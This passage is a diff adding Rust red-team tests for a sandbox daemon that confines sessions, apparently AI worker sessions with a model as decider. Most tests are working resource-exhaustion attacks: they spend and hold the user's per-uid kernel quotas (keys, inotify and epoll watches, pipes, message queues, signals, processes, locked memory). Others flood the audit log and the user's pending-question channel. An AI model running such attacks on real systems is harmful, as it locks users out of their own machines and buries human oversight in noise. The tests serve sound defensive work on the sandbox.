@@ -9140,3 +9140,1123 @@ fn replaces_the_programs_the_users_ssh_and_tmux_configuration_runs() {
     let open = not_refused(&["ssh ProxyCommand", "ssh Match exec", "ssh KnownHostsCommand", "tmux run-shell", "tmux #() in status-right"], &r[1..]);
     assert!(open.is_empty(), "programs the user's ssh and tmux configuration runs, replaced: {open:?}");
 }
+
+// ---------------------------------------------------------------------------------------
+// Thirteenth pass: the per-uid counts the kernel keeps that no share covers (a key's payload
+// charged after `key_alloc`, inotify and epoll watches, pipe buffer pages, POSIX queue bytes,
+// pending signals, processes under the user's `ulimit -u`, locked shared memory); what a
+// session makes the daemon write or keep without a bound (misses recorded one by one,
+// decisions of the request tool, questions to the user, the twin's record of every
+// request); and where the twelfth pass's lists
+// of the starter's variables and of the configuration's secrets end (tools' homes that move
+// code places, program variables, module folder lists, credential files named by a variable
+// or by ssh's and git's configuration); and two things a session does to the user's
+// processes through what they share with it (a description's `O_NONBLOCK`, a lease on a
+// file it made).
+
+/// Runs `spend` in a process of its own (forked from the caller, holding none of the
+/// caller's descriptors, so the caller's results pipe ends when the caller's does) that
+/// stays, with everything it made, until the session is killed: the results `spend`
+/// returned.
+fn spend_and_hold(spend: impl FnOnce() -> Vec<i32>) -> Vec<i32> {
+    let mut fds = [0; 2];
+    // SAFETY: pipe/fork/close/read/write on local buffers; the child makes syscalls and sleeps.
+    unsafe {
+        if libc::pipe(fds.as_mut_ptr()) != 0 {
+            return vec![];
+        }
+        let pid = libc::fork();
+        if pid < 0 {
+            return vec![];
+        }
+        if pid == 0 {
+            for fd in 3..4096 {
+                if fd != fds[1] {
+                    libc::close(fd);
+                }
+            }
+            let r = spend();
+            let n = r.len() as i32;
+            libc::write(fds[1], (&n as *const i32).cast(), 4);
+            for v in &r {
+                libc::write(fds[1], (v as *const i32).cast(), 4);
+            }
+            libc::close(fds[1]);
+            loop {
+                libc::pause();
+            }
+        }
+        libc::close(fds[1]);
+        let rd = fds[0];
+        let next = || {
+            let mut b = [0u8; 4];
+            let mut got = 0usize;
+            while got < 4 {
+                let k = libc::read(rd, b[got..].as_mut_ptr().cast(), 4 - got);
+                if k <= 0 {
+                    return None;
+                }
+                got += k as usize;
+            }
+            Some(i32::from_ne_bytes(b))
+        };
+        let out = match next() {
+            Some(n) => (0..n).map_while(|_| next()).collect(),
+            None => vec![],
+        };
+        libc::close(rd);
+        out
+    }
+}
+
+/// Raises the caller's open-files limit to its hard limit.
+fn raise_nofile() {
+    // SAFETY: getrlimit/setrlimit on a local struct.
+    unsafe {
+        let mut lim: libc::rlimit = std::mem::zeroed();
+        libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
+        lim.rlim_cur = lim.rlim_max;
+        libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
+    }
+}
+
+/// Spends the user's key bytes with keys whose payload the kernel charges after
+/// `key_alloc` (a `user` key of 16,000 bytes, then smaller ones until the kernel refuses
+/// every size), and holds them: the user's processes outside are then refused every key
+/// (`ssh-add` into the kernel, Kerberos, `keyctl padd`: `EDQUOT`). Principle: a uid's
+/// sessions together hold at most half of the key bytes (`KEY_BYTES_SHARE`), so the user
+/// keeps the other half. Why it might get out: `pincer_key_alloc` counts the key's
+/// `quotalen` when the key is allocated (reach.bpf.c, `.bytes = BPF_CORE_READ(key,
+/// quotalen)`), which the kernel sets to the description's length alone (`key_alloc`:
+/// `desclen + 1 + type->def_datalen`, 0 for `user`); the payload is charged afterwards,
+/// when the key is instantiated (`generic_key_instantiate` -> `key_payload_reserve`),
+/// past every hook. (The twelfth pass tried the other way a payload grows, `keyctl
+/// update`.) Control: the user's process gets a key before; the session makes its keys.
+/// Gets out on 6.1 and 6.12: the session's 11-12 keys held 19,890-19,903 payload bytes of the
+/// 20,000; the user's process then got `EDQUOT` (122).
+#[test]
+fn spends_the_users_key_bytes_with_payloads_charged_after_key_alloc() {
+    let maxbytes = sysctl_u64("kernel/keys/maxbytes");
+    assert_eq!(ungated(users_key_and_watch)[0], 0, "control: the user's process gets a key");
+    let red = Red::start("keypayload");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            if join_keyring(None) <= 0 {
+                return vec![-1, 0];
+            }
+            let (mut keys, mut bytes) = (0i32, 0i32);
+            for size in [16_000usize, 4_000, 1_000, 250, 60, 16, 4, 1] {
+                let data = "p".repeat(size);
+                while keys < 150 && add_user_key(&format!("b{keys}"), &data, KEY_SPEC_SESSION_KEYRING) > 0 {
+                    keys += 1;
+                    bytes += size as i32;
+                }
+            }
+            vec![keys, bytes]
+        })
+    });
+    note(&format!("keypayload: the session made {made:?} keys and payload bytes (maxbytes {maxbytes})"));
+    assert!(made.len() == 2 && made[0] > 0, "control: the session makes keys: {made:?}");
+    let after = ungated(users_key_and_watch);
+    drop(red);
+    assert_eq!(after[0], 0, "the user's process outside is refused a key (errno {}) while the session holds {} payload bytes of the user's {maxbytes}", after[0], made[1]);
+}
+
+/// Spends the user's inotify watches (`fs/inotify/max_user_watches`, counted per uid) on
+/// files of its own scratch, from one instance, and holds them: the user's editors, IDEs,
+/// file managers, `tail -f` and build watchers outside are then refused every new watch
+/// (`ENOSPC`, "too many open files" in VS Code). Principle: a uid's sessions together hold at
+/// most half of each per-uid quota; "the user outside keeps working". Why it might get out:
+/// the twelfth pass shares the inotify *instances* (`fsnotify_alloc_group`, `NOTIFY_SHARE`);
+/// the watches are another per-uid count (`inotify_new_watch` -> `inc_inotify_watches`),
+/// charged by `inotify_add_watch` past any share, and a watch on the session's own file
+/// passes `path_notify`. Control: the user's process adds a watch before.
+/// Gets out on 6.1 and 6.12: the session held all 8,192 watches; the user's process then got
+/// `ENOSPC` (28).
+#[test]
+fn spends_the_users_inotify_watches() {
+    let max = sysctl_u64("fs/inotify/max_user_watches").min(200_000) as usize;
+    let watch = || {
+        // SAFETY: inotify_init1/inotify_add_watch/close on a valid C string.
+        unsafe {
+            let fd = libc::inotify_init1(libc::IN_CLOEXEC);
+            if fd < 0 {
+                return vec![errno()];
+            }
+            let r = rc(libc::inotify_add_watch(fd, c"/tmp".as_ptr(), libc::IN_MODIFY) as i64);
+            libc::close(fd);
+            vec![r]
+        }
+    };
+    assert_eq!(ungated(watch), vec![0], "control: the user's process adds an inotify watch");
+    let red = Red::start("inowatches");
+    let dir = red.scratch.join("w");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            let _ = std::fs::create_dir(&dir);
+            // SAFETY: inotify_init1/inotify_add_watch on valid C strings.
+            let fd = unsafe { libc::inotify_init1(0) };
+            if fd < 0 {
+                return vec![-errno()];
+            }
+            let mut n = 0i32;
+            for i in 0..max + 64 {
+                let f = dir.join(format!("f{i}"));
+                if std::fs::write(&f, "").is_err() {
+                    break;
+                }
+                // SAFETY: as above.
+                if unsafe { libc::inotify_add_watch(fd, cpath(&f).as_ptr(), libc::IN_MODIFY) } < 0 {
+                    break;
+                }
+                n += 1;
+            }
+            vec![n]
+        })
+    });
+    note(&format!("inowatches: the session holds {made:?} inotify watches (limit {max})"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session adds watches: {made:?}");
+    let after = ungated(watch);
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside is refused an inotify watch while the session holds {made:?} of {max}");
+}
+
+/// Spends the user's epoll watches (`fs/epoll/max_user_watches`, counted per uid: every
+/// descriptor an event loop watches) with a thousand eventfds added to as many epoll
+/// instances as it takes, and holds them: every event loop of the user's outside (a
+/// browser, an editor, `systemd --user`, any async runtime) is then refused a new watch
+/// (`ENOSPC`). Principle: as above. Why it might get out: no share covers it; `epoll_ctl`
+/// passes no hook, and the count is the uid's (`ep_insert`: `percpu_counter_compare` of
+/// `user->epoll_watches`). Control: the user's process adds a watch before.
+/// Gets out on 6.1 and 6.12: the session held every one of the uid's 204,087 (6.1) and 206,135
+/// (6.12) epoll watches; the user's process then got `ENOSPC` (28).
+#[test]
+fn spends_the_users_epoll_watches() {
+    let max = sysctl_u64("fs/epoll/max_user_watches");
+    let watch = || {
+        // SAFETY: epoll_create1/eventfd/epoll_ctl/close on local buffers.
+        unsafe {
+            let ep = libc::epoll_create1(libc::EPOLL_CLOEXEC);
+            let ev = libc::eventfd(0, libc::EFD_CLOEXEC);
+            if ep < 0 || ev < 0 {
+                return vec![errno()];
+            }
+            let mut e = libc::epoll_event { events: libc::EPOLLIN as u32, u64: 0 };
+            let r = rc(libc::epoll_ctl(ep, libc::EPOLL_CTL_ADD, ev, &mut e) as i64);
+            libc::close(ev);
+            libc::close(ep);
+            vec![r]
+        }
+    };
+    assert_eq!(ungated(watch), vec![0], "control: the user's process adds an epoll watch");
+    if max > 20_000_000 {
+        note(&format!("epollwatches: max_user_watches is {max}, too many to spend in a test"));
+        return;
+    }
+    let red = Red::start("epollwatches");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            raise_nofile();
+            let per = 1000u64;
+            // SAFETY: eventfd/epoll_create1/epoll_ctl on local buffers; the descriptors stay open.
+            unsafe {
+                let evs: Vec<i32> = (0..per).map(|_| libc::eventfd(0, 0)).take_while(|&fd| fd >= 0).collect();
+                let mut n = 0i64;
+                'all: for _ in 0..(max / evs.len().max(1) as u64 + 2) {
+                    let ep = libc::epoll_create1(0);
+                    if ep < 0 {
+                        break;
+                    }
+                    for &ev in &evs {
+                        let mut e = libc::epoll_event { events: libc::EPOLLIN as u32, u64: 0 };
+                        if libc::epoll_ctl(ep, libc::EPOLL_CTL_ADD, ev, &mut e) != 0 {
+                            break 'all;
+                        }
+                        n += 1;
+                    }
+                }
+                vec![n.min(i32::MAX as i64) as i32, evs.len() as i32]
+            }
+        })
+    });
+    note(&format!("epollwatches: the session holds {made:?} epoll watches and eventfds (limit {max})"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session adds watches: {made:?}");
+    let after = ungated(watch);
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside is refused an epoll watch while the session holds {made:?} of {max}");
+}
+
+/// The size of a new pipe of the caller's, and whether it may grow it to 1 MiB (0 or the
+/// errno).
+fn users_pipe() -> Vec<i32> {
+    let mut p = [0; 2];
+    // SAFETY: pipe2/fcntl/close on local buffers.
+    unsafe {
+        if libc::pipe2(p.as_mut_ptr(), libc::O_CLOEXEC) != 0 {
+            return vec![-errno(), 0];
+        }
+        let size = libc::fcntl(p[0], libc::F_GETPIPE_SZ);
+        let grow = rc(libc::fcntl(p[0], libc::F_SETPIPE_SZ, 1 << 20) as i64);
+        libc::close(p[0]);
+        libc::close(p[1]);
+        vec![size, grow]
+    }
+}
+
+/// Spends the user's pipe buffers (`fs/pipe-user-pages-soft`, 16,384 pages counted per uid)
+/// with pipes grown to 1 MiB (`F_SETPIPE_SZ`), and holds them: every pipe the user's
+/// processes outside make from then on gets 2 pages instead of 16 (8 KiB: a shell pipeline,
+/// `make -j`'s jobserver, a compiler's output stall on every 8 KiB), and none may be grown
+/// (`EPERM`). Principle: a uid's sessions together hold at most half of each per-uid quota.
+/// Why it might get out: the count is the uid's (`user->pipe_bufs`, `account_pipe_buffers`),
+/// `pipe(2)` and `F_SETPIPE_SZ` pass no hook, and no share covers it. Control: the user's
+/// process gets a 64 KiB pipe and grows it before.
+/// Gets out on 6.1 and 6.12: the session held 16,370 of the 16,384 pages in 68 pipes; the user's
+/// new pipe then held 8 KiB and could not grow (`[8192, EPERM]`).
+#[test]
+fn spends_the_users_pipe_buffer_pages() {
+    let soft = sysctl_u64("fs/pipe-user-pages-soft");
+    let before = ungated(users_pipe);
+    assert_eq!(before, vec![65536, 0], "control: the user's process gets a 64 KiB pipe and grows it to 1 MiB");
+    let red = Red::start("pipepages");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            raise_nofile();
+            let (mut pipes, mut pages) = (0i32, 0i32);
+            // SAFETY: pipe/fcntl on local buffers; the pipes stay open.
+            unsafe {
+                while pipes < 2000 {
+                    let mut p = [0; 2];
+                    if libc::pipe(p.as_mut_ptr()) != 0 {
+                        break;
+                    }
+                    pipes += 1;
+                    let mut size = 1 << 20;
+                    while size >= 4096 && libc::fcntl(p[0], libc::F_SETPIPE_SZ, size) < 0 {
+                        size /= 2;
+                    }
+                    let got = libc::fcntl(p[0], libc::F_GETPIPE_SZ);
+                    pages += got / 4096;
+                    if size < 65536 {
+                        break;
+                    }
+                }
+            }
+            vec![pipes, pages]
+        })
+    });
+    note(&format!("pipepages: the session holds {made:?} pipes and pages (soft limit {soft})"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session makes pipes: {made:?}");
+    let after = ungated(users_pipe);
+    drop(red);
+    assert_eq!(after, before, "the user's new pipe outside (size, grow) while the session holds {made:?} of {soft} pages");
+}
+
+/// Spends the user's POSIX message queue bytes (`RLIMIT_MSGQUEUE`, 800 KiB counted per uid)
+/// with queues of its own, and holds them: the user's processes outside are then refused
+/// every new queue (`mq_open`: `EMFILE`). The queues are charged to the uid whichever IPC
+/// namespace they are made in, so the session's own namespace changes nothing. Principle: a
+/// uid's sessions together hold at most half of each per-uid quota. Why it might get out:
+/// the count is the uid's (`inc_rlimit_ucounts(UCOUNT_RLIMIT_MSGQUEUE)` in
+/// `mqueue_get_inode`), and a queue the session makes is its own to the reach checks.
+/// Control: the user's process makes a queue before.
+/// Gets out on 6.1 and 6.12: the session held 18 queues; the user's `mq_open` then got `EMFILE`
+/// (24).
+#[test]
+fn spends_the_users_posix_message_queue_bytes() {
+    let prefix = format!("rtn-mqb-{}", uniq());
+    let users_queue = |name: String| {
+        move || {
+            let fd = mq_open(&name, libc::O_CREAT | libc::O_EXCL | libc::O_RDWR);
+            if fd >= 0 {
+                // SAFETY: close/mq_unlink of the queue just made.
+                unsafe {
+                    libc::close(fd);
+                    libc::syscall(libc::SYS_mq_unlink, CString::new(name).unwrap().as_ptr());
+                }
+                vec![0]
+            } else {
+                vec![-fd]
+            }
+        }
+    };
+    assert_eq!(ungated(users_queue(format!("{prefix}-user-a"))), vec![0], "control: the user's process makes a queue");
+    let red = Red::start("mqbytes");
+    let p = prefix.clone();
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            let mut n = 0i32;
+            for size in [8192i64, 1024, 128, 16, 1] {
+                loop {
+                    let name = CString::new(format!("{p}-{n}")).unwrap();
+                    // SAFETY: mq_attr is plain data.
+                    let mut attr: libc::mq_attr = unsafe { std::mem::zeroed() };
+                    attr.mq_maxmsg = 10;
+                    attr.mq_msgsize = size;
+                    // SAFETY: mq_open with a C string and an attribute struct that outlive the call.
+                    let fd = unsafe { libc::syscall(libc::SYS_mq_open, name.as_ptr(), libc::O_CREAT | libc::O_EXCL | libc::O_RDWR, 0o600, &attr as *const libc::mq_attr) };
+                    if fd < 0 || n >= 200 {
+                        break;
+                    }
+                    n += 1;
+                }
+            }
+            vec![n]
+        })
+    });
+    note(&format!("mqbytes: the session holds {made:?} queues"));
+    let after = ungated(users_queue(format!("{prefix}-user-b")));
+    drop(red);
+    for i in 0..201 {
+        let name = CString::new(format!("{prefix}-{i}")).unwrap();
+        // SAFETY: mq_unlink with a C string (the session's queues outlive its processes).
+        unsafe { libc::syscall(libc::SYS_mq_unlink, name.as_ptr()) };
+    }
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session makes queues: {made:?}");
+    assert_eq!(after, vec![0], "the user's process outside is refused a queue while the session holds {made:?}");
+}
+
+/// Queues `SIGRTMIN` to the caller itself with the signal blocked (so it stays pending):
+/// 0, or the errno.
+fn queue_rt_signal_to_self() -> i32 {
+    // SAFETY: sigprocmask/sigqueue on the caller itself with local buffers.
+    unsafe {
+        let mut set: libc::sigset_t = std::mem::zeroed();
+        libc::sigemptyset(&mut set);
+        libc::sigaddset(&mut set, libc::SIGRTMIN());
+        libc::sigprocmask(libc::SIG_BLOCK, &set, std::ptr::null_mut());
+        let val = libc::sigval { sival_ptr: std::ptr::null_mut() };
+        rc(libc::sigqueue(libc::getpid(), libc::SIGRTMIN(), val) as i64)
+    }
+}
+
+/// Spends the user's pending signals (`RLIMIT_SIGPENDING`, counted per uid) by queueing
+/// real-time signals to a process of its own that blocks them, and holds them: every
+/// `sigqueue` of the user's processes outside (a supervisor's, a POSIX timer's overrun, AIO
+/// completions, `mq_notify`) then fails with `EAGAIN`. Principle: a uid's sessions
+/// together hold at most half of each per-uid quota. Why it might get out: the count is the
+/// uid's (`__sigqueue_alloc`: `inc_rlimit_get_ucounts(UCOUNT_RLIMIT_SIGPENDING)`), and a
+/// signal to the session's own process passes `task_kill`. Control: the user's process
+/// queues one before.
+/// Gets out on 6.1 and 6.12: the session held 3,581 (6.1) and 3,615 (6.12) pending signals; the
+/// user's `sigqueue` then got `EAGAIN` (11).
+#[test]
+fn spends_the_users_pending_signals() {
+    assert_eq!(ungated(|| vec![queue_rt_signal_to_self()]), vec![0], "control: the user's process queues a signal");
+    let red = Red::start("sigpending");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            let mut n = 0i32;
+            while n < 1_000_000 && queue_rt_signal_to_self() == 0 {
+                n += 1;
+            }
+            vec![n]
+        })
+    });
+    note(&format!("sigpending: the session holds {made:?} pending signals"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session queues signals: {made:?}");
+    let after = ungated(|| vec![queue_rt_signal_to_self()]);
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside is refused a queued signal while the session holds {made:?}");
+}
+
+/// The user's process limit (`ulimit -u`, as `/etc/security/limits.conf` gives every login
+/// of the user) set on the caller.
+fn set_nproc(n: u64) {
+    let lim = libc::rlimit { rlim_cur: n, rlim_max: n };
+    // SAFETY: setrlimit with a local struct.
+    unsafe { libc::setrlimit(libc::RLIMIT_NPROC, &lim) };
+}
+
+/// Whether the caller may fork (0, or the errno), under the user's process limit `n`.
+fn forks_under(n: u64) -> i32 {
+    set_nproc(n);
+    // SAFETY: fork/_exit/waitpid; the child exits at once.
+    unsafe {
+        let pid = libc::fork();
+        if pid < 0 {
+            return errno();
+        }
+        if pid == 0 {
+            libc::_exit(0);
+        }
+        libc::waitpid(pid, std::ptr::null_mut(), 0);
+        0
+    }
+}
+
+/// Forks until the user's process limit (`ulimit -u` 400, a limits.conf hardening) stops
+/// it, on the shipped `pids_max` (4,096), and holds the processes: the user's processes
+/// outside, whose limit counts the same uid's tasks, then cannot fork at all (a shell's
+/// next command, `systemd --user`'s services, `sshd`'s login). Principle: "with them the
+/// session stops at its own limit and the user outside keeps working"; a uid's sessions
+/// together hold at most half of each per-uid quota. Why it might get out: the session's
+/// own limit is `pids.max`, a number from the configuration (`limits.rs`), not a share of
+/// the user's `RLIMIT_NPROC` (the shipped comment asks to keep it "well below the user's
+/// own process limit", which the daemon does not check), and `copy_process` counts every
+/// task of the uid. Control: the user's process forks before, under the same limit.
+/// Gets out on 6.1 and 6.12: the session held 395 processes; the user's `fork` then got `EAGAIN`
+/// (11).
+#[test]
+fn spends_the_users_process_limit_below_its_pids_max() {
+    let limit = 400u64;
+    assert_eq!(ungated(|| vec![forks_under(limit)]), vec![0], "control: the user's process forks under its limit");
+    let red = Red::start("nproc");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            set_nproc(limit);
+            let mut n = 0i32;
+            while n < 4000 {
+                // SAFETY: fork; the child closes nothing it needs and sleeps.
+                let pid = unsafe { libc::fork() };
+                if pid < 0 {
+                    break;
+                }
+                if pid == 0 {
+                    loop {
+                        // SAFETY: pause in the child.
+                        unsafe { libc::pause() };
+                    }
+                }
+                n += 1;
+            }
+            vec![n]
+        })
+    });
+    note(&format!("nproc: the session holds {made:?} processes under the user's limit {limit}"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session forks: {made:?}");
+    let after = ungated(|| vec![forks_under(limit)]);
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside cannot fork (its limit {limit}) while the session holds {made:?} processes");
+}
+
+/// Locks SysV shared memory of the caller's size `bytes` (`SHM_LOCK`): 0 or the errno. The
+/// segment is removed when its last attachment goes (`keep`: stays attached).
+fn shm_lock(bytes: usize, keep: bool) -> i32 {
+    // SAFETY: shmget/shmctl/shmat on a private segment of the caller's.
+    unsafe {
+        let id = libc::shmget(libc::IPC_PRIVATE, bytes, libc::IPC_CREAT | 0o600);
+        if id < 0 {
+            return errno();
+        }
+        let r = rc(libc::shmctl(id, libc::SHM_LOCK, std::ptr::null_mut()) as i64);
+        if keep {
+            libc::shmat(id, std::ptr::null(), 0);
+        }
+        libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut());
+        r
+    }
+}
+
+/// Locks as much SysV shared memory as the user's `RLIMIT_MEMLOCK` allows (`SHM_LOCK`,
+/// charged per uid), and holds it: the user's processes outside are then refused every
+/// lock of shared memory (`ENOMEM`: a database's shared buffers, a `memfd` of huge pages).
+/// Principle: a uid's sessions together hold at most half of each per-uid quota. Why it
+/// might get out: the count is the uid's (`user_shm_lock`:
+/// `inc_rlimit_ucounts(UCOUNT_RLIMIT_MEMLOCK)`), and the session's own segment passes the
+/// IPC checks. Control: the user's process locks 64 KiB before.
+/// Gets out on 6.1 and 6.12: the session locked the whole 8 MiB; the user's `SHM_LOCK` of 64 KiB
+/// then got `ENOMEM` (12).
+#[test]
+fn locks_the_users_share_of_locked_shared_memory() {
+    assert_eq!(ungated(|| vec![shm_lock(64 << 10, false)]), vec![0], "control: the user's process locks 64 KiB of shared memory");
+    let red = Red::start("shmlock");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            // SAFETY: getrlimit on a local struct.
+            let limit = unsafe {
+                let mut lim: libc::rlimit = std::mem::zeroed();
+                libc::getrlimit(libc::RLIMIT_MEMLOCK, &mut lim);
+                lim.rlim_cur
+            };
+            if limit == libc::RLIM_INFINITY {
+                return vec![-1, 0];
+            }
+            let mut locked = 0usize;
+            let mut size = limit as usize;
+            let mut tries = 0;
+            while size >= 4096 && tries < 200 {
+                tries += 1;
+                if shm_lock(size, true) == 0 {
+                    locked += size;
+                } else {
+                    size /= 2;
+                }
+            }
+            vec![0, (locked >> 10) as i32]
+        })
+    });
+    note(&format!("shmlock: the session locked {made:?} (KiB)"));
+    if made.first() == Some(&-1) {
+        note("shmlock: RLIMIT_MEMLOCK is unlimited here; nothing to spend");
+        return;
+    }
+    assert!(made.get(1).is_some_and(|&k| k > 0), "control: the session locks shared memory: {made:?}");
+    let after = ungated(|| vec![shm_lock(64 << 10, false)]);
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside is refused a lock of shared memory while the session holds {made:?}");
+}
+
+/// The audit lines of `red`'s log that hold `needle`.
+fn audit_lines_with(red: &Red, needle: &str) -> usize {
+    std::fs::read_to_string(red.dir.join("audit.jsonl")).unwrap_or_default().lines().filter(|l| l.contains(needle)).count()
+}
+
+/// Waits until `count` has not changed for two seconds (at most `max_secs`): its last value.
+fn settled(max_secs: u64, count: impl Fn() -> usize) -> usize {
+    let start = Instant::now();
+    let (mut seen, mut since) = (count(), Instant::now());
+    while since.elapsed() < Duration::from_secs(2) && start.elapsed() < Duration::from_secs(max_secs) {
+        std::thread::sleep(Duration::from_millis(200));
+        let now = count();
+        if now != seen {
+            (seen, since) = (now, Instant::now());
+        }
+    }
+    seen
+}
+
+/// Opens the user's file in the session's root 4,000 times without a grant, on a daemon
+/// that records misses (`on_miss = "record"`, the documented setting for learning what a
+/// workload needs, and the red team's): each miss is an audit line (and on 6.12 a second
+/// one for its hold), made as fast as the session makes system calls, on the host's disk
+/// that the user's processes share. Principle: "the denials no decision made ... are
+/// written to the audit within a budget of 200 at once and 20 a second per session". Why it
+/// might get out: `miss_to_decide`'s `OnMiss::Record` branch (pipeline.rs) writes each miss
+/// with `self.audit.record` and not through `record_denial`, and `release_hold` writes
+/// every hold's line the same way; the budget covers reach denials, never-grantable and
+/// unresolved misses only. Control: every open is refused.
+/// Gets out on 6.1 and 6.12: 2,057 lines in 0.4 s on 6.1 (budget 298) and 4,000 in 5.6 s on 6.12
+/// (budget 402).
+#[test]
+fn fills_the_audit_with_misses_a_recording_daemon_writes_one_by_one() {
+    let red = Red::start("auditmiss");
+    let file = red.ws.join("src/main.rs");
+    let start = Instant::now();
+    let r = red.gated(|| {
+        let mut refused = 0;
+        for _ in 0..4_000 {
+            if read(&file) != 0 {
+                refused += 1;
+            }
+        }
+        vec![refused]
+    });
+    let secs = start.elapsed().as_secs_f64();
+    let lines = settled(30, || audit_lines_with(&red, "main.rs"));
+    note(&format!("auditmiss: {lines} audit lines for 4,000 misses in {secs:.1} s"));
+    assert_eq!(r, vec![4_000], "control: every open of the ungranted file is refused");
+    let budget = 200.0 + 20.0 * (secs + 4.0) + 10.0;
+    assert!((lines as f64) <= budget, "{lines} audit lines for 4,000 misses in {secs:.1} s (budget {budget:.0})");
+}
+
+/// Sends the request tool's call for `read` of each of `paths` on one connection to the
+/// daemon's socket, each after the last one's reply (at most 10 s each, and 120 s in all):
+/// how many replies came.
+fn request_each(socket: &Path, paths: &[PathBuf]) -> i32 {
+    use std::io::Write;
+    let Ok(mut s) = std::os::unix::net::UnixStream::connect(socket) else { return -1 };
+    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
+    let mut lines = BufReader::new(s.try_clone().unwrap());
+    let start = Instant::now();
+    let mut n = 0;
+    for p in paths {
+        let call = serde_json::json!({"v": 1, "call": "request", "path": p.display().to_string(), "access": "read", "reason": "reading the sources to fix the test"});
+        if writeln!(s, "{call}").is_err() {
+            break;
+        }
+        let mut line = String::new();
+        if lines.read_line(&mut line).unwrap_or(0) == 0 || start.elapsed() > Duration::from_secs(120) {
+            break;
+        }
+        n += 1;
+    }
+    n
+}
+
+/// Asks the request tool for 1,500 files of its root, one after another on one connection
+/// (each a decision of the twin, whatever it decides, and one audit line of about a
+/// kilobyte with the three votes), as fast as the daemon answers: hours of it are gigabytes
+/// on the disk the user's processes share, and with a model as decider as many calls of it.
+/// Principle: what a session spends stops at its own limits (the twelfth pass's audit
+/// budget). Why it might get out: the budget covers only denials no decision made
+/// (`record_denial`); every decision is written by `audit_decision` (pipeline.rs,
+/// `conclude`), and a session's decisions are bounded by nothing but the decider's speed
+/// (the connection cap bounds connections, not calls on one). Control: the daemon answers
+/// the requests.
+/// Gets out on 6.1 and 6.12: 1,500 lines for 1,500 requests in 5.8 s (6.1, budget 406) and 5.1 s
+/// (6.12, budget 393).
+#[test]
+fn fills_the_audit_with_decisions_of_requests_it_makes_as_fast_as_the_daemon_answers() {
+    let n = 1_500;
+    let red = Red::start_with("auditreq", |ws| {
+        for i in 0..n {
+            make(&ws.join(format!("data/f-{i}.txt")), Some("x\n"));
+        }
+    });
+    let socket = red.dir.join("pincer.sock");
+    let paths: Vec<PathBuf> = (0..n).map(|i| red.ws.join(format!("data/f-{i}.txt"))).collect();
+    let start = Instant::now();
+    let r = red.gated(|| vec![request_each(&socket, &paths)]);
+    let secs = start.elapsed().as_secs_f64();
+    let lines = settled(30, || audit_lines_with(&red, "\"source\":\"tool\""));
+    note(&format!("auditreq: {lines} audit lines for {r:?} requests answered in {secs:.1} s"));
+    assert!(r.first().is_some_and(|&k| k > 0), "control: the daemon answers the session's requests: {r:?}");
+    let budget = 200.0 + 20.0 * (secs + 4.0) + 10.0;
+    assert!((lines as f64) <= budget, "{lines} audit lines for {r:?} requests in {secs:.1} s (budget {budget:.0})");
+}
+
+/// Removes 80 files of its root three times each, without a grant, on the shipped
+/// `on_miss = "decide"`: every miss is decided, and a request denied twice becomes a
+/// question for the user on its third ask (`escalation.after_denials`), so the user's
+/// `pincer pending` fills with the session's questions, among which the one question of
+/// the user's real work (or of another session) is lost; each stays until it times out
+/// (300 s) and holds the daemon's memory with the twin's record of every request. Principle:
+/// nothing a session does may keep the user's trusted channel from being served; "only
+/// repeated denials of something the worker needs reach the user". Why it might get out:
+/// a session's questions are bounded by nothing (`Questions` is a map without a bound;
+/// `Twin::conclude` numbers a question for every path denied `escalate_after` times), and
+/// the misses that make them pass no connection (the 64-connection cap bounds only the
+/// waiting requests of the request tool). Control: every removal is refused, and the
+/// session's misses become questions.
+/// Gets out on 6.1 and 6.12: all 80 removals became questions in `pincer pending` (240 refused
+/// removals).
+#[test]
+fn fills_the_users_pending_questions_with_misses_denied_twice() {
+    let n = 80;
+    let red = Red::start_env("questions", &[("on_miss", "\"decide\"")], &[], |ws| {
+        for i in 0..n {
+            make(&ws.join(format!("old/f-{i}.txt")), Some("x\n"));
+        }
+    });
+    let socket = red.dir.join("pincer.sock");
+    let files: Vec<PathBuf> = (0..n).map(|i| red.ws.join(format!("old/f-{i}.txt"))).collect();
+    // Each round after the last one's decisions (a miss that comes while the same request
+    // is decided joins that decision rather than being denied again).
+    let decided = || audit_lines_with(&red, "\"event\":\"decision\"");
+    let mut r = vec![0];
+    for round in 1..=3 {
+        let got = red.gated(|| vec![files.iter().filter(|f| rc_of_unlink(f) != 0).count() as i32]);
+        r[0] += got.first().copied().unwrap_or(0);
+        let start = Instant::now();
+        while decided() < round * n && start.elapsed() < Duration::from_secs(90) {
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    }
+    let questions = || {
+        let o = Command::new(PINCER).args(["pending", "--json"]).env("PINCER_SOCKET", &socket).uid(UID).gid(UID).output().expect("pincer pending");
+        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
+        v.as_array().into_iter().flatten().filter(|q| q["path"].as_str().is_some_and(|p| p.contains("old/f-"))).count()
+    };
+    let asked = settled(120, questions);
+    note(&format!("questions: {asked} questions for the user from {r:?} refused removals"));
+    assert_eq!(r, vec![3 * n as i32], "control: every removal is refused");
+    assert!(asked > 0, "control: the session's misses denied twice become questions");
+    assert!(asked <= 64, "the session put {asked} questions before the user");
+}
+
+/// Plants code where the starter's environment moves the homes and files of tools whose
+/// default places the never list protects, by variables `MOVABLE` does not list:
